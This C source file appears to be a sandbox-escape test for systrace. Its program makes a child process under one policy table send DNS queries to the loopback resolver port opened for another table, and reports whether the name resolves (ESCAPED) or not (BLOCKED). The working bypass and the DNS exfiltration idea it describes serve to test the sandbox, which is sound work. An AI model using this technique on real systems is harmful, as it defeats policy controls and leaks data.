/* dns_relay.c: a process resolves a name its table refuses through the loopback resolver
 * that systrace opened for another table's lookups.
 *
 * Under `host` rules systrace redirects each query to a name server of /etc/resolv.conf to a
 * small resolver of its own on 127.0.0.1, one port per (table, server), which decides the
 * name by that table and forwards it.  A port is a port: a process of another table may send
 * its own query there (a connect to loopback, which its policy may well permit), and the
 * query was decided by the table of whoever made the port -- the name server was asked a
 * name the sender's table answers "no such name" (its data in the name: exfiltration).
 *
 *   dns_relay parent NAME1 CHILD NAME2   looks NAME1 up at the name server (under systrace:
 *                                        through the resolver, whose port getpeername()
 *                                        tells), then runs CHILD (a copy of this program,
 *                                        another table) as "child NAME2 PORT"
 *   dns_relay child NAME2 PORT           asks the name server for NAME2 -- ESCAPED when it
 *                                        answers; else asks 127.0.0.1:PORT on a socket of
 *                                        its own -- ESCAPED when that answers; else BLOCKED
 *
 * The name server is the first of /etc/resolv.conf.  An answer is its last four bytes (the
 * test's server answers one A record), or "no such name" (its rcode).
 */
#include "attack.h"
#include "dns_query.h"

/* One A query for name to sa on a socket of our own; the address answered, or why not in
 * why.  Returns 0 on an address.  port_out: the port the socket is really connected to. */
static int lookup(const struct sockaddr_in *sa, const char *name, char *out, size_t size,
                  int *port_out) {
    unsigned char q[512], r[512];
    size_t n = question(q, 0x1234, 0x0100, 0, name);
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct timeval tv = {3, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (connect(s, (const struct sockaddr *)sa, sizeof *sa) < 0) {
        snprintf(out, size, "connect: %s", ename(errno));
        close(s);
        return -1;
    }
    if (port_out) {
        struct sockaddr_in peer;
        socklen_t plen = sizeof peer;
        getpeername(s, (struct sockaddr *)&peer, &plen);
        *port_out = ntohs(peer.sin_port);
    }
    ssize_t got = -1;
    if (send(s, q, n, 0) == (ssize_t)n)
        got = recv(s, r, sizeof r, 0);
    int err = errno;
    close(s);
    if (got < 12) {
        snprintf(out, size, "no answer: %s", got < 0 ? ename(err) : "short");
        return -1;
    }
    int rcode = r[3] & 0x0f, answers = (r[6] << 8) | r[7];
    if (rcode != 0 || answers == 0) {
        snprintf(out, size, "rcode %d, %d answers", rcode, answers);
        return -1;
    }
    inet_ntop(AF_INET, r + got - 4, out, (socklen_t)size);
    return 0;
}

int main(int argc, char **argv) {
    struct sockaddr_in server;
    char answer[128];
    if (nameserver(&server) < 0)
        skipped("no nameserver in /etc/resolv.conf");
    if (argc == 5 && strcmp(argv[1], "parent") == 0) {
        int port = 0;
        if (lookup(&server, argv[2], answer, sizeof answer, &port) < 0)
            blocked("the parent's own lookup of %s failed: %s", argv[2], answer);
        note("parent: %s is %s, asked through port %d", argv[2], answer, port);
        char text[16];
        snprintf(text, sizeof text, "%d", port);
        pid_t pid = fork();
        if (pid == 0) {
            execl(argv[3], argv[3], "child", argv[4], text, (char *)NULL);
            blocked("exec %s: %s", argv[3], ename(errno));
        }
        int status;
        waitpid(pid, &status, 0);
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "child") == 0) {
        if (lookup(&server, argv[2], answer, sizeof answer, NULL) == 0)
            escaped("the name server answered %s: %s", argv[2], answer);
        note("child: the name server: %s", answer);
        int port = atoi(argv[3]);
        if (port == 53)
            blocked("%s not resolved (no resolver of systrace's to try)", argv[2]);
        struct sockaddr_in other = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        inet_pton(AF_INET, "127.0.0.1", &other.sin_addr);
        if (lookup(&other, argv[2], answer, sizeof answer, NULL) == 0)
            escaped("127.0.0.1:%d, the resolver of the parent's table, answered %s: %s",
                    port, argv[2], answer);
        blocked("%s not resolved at 127.0.0.1:%d either: %s", argv[2], port, answer);
    }
    usage("dns_relay parent NAME1 CHILD NAME2 | child NAME2 PORT");
}
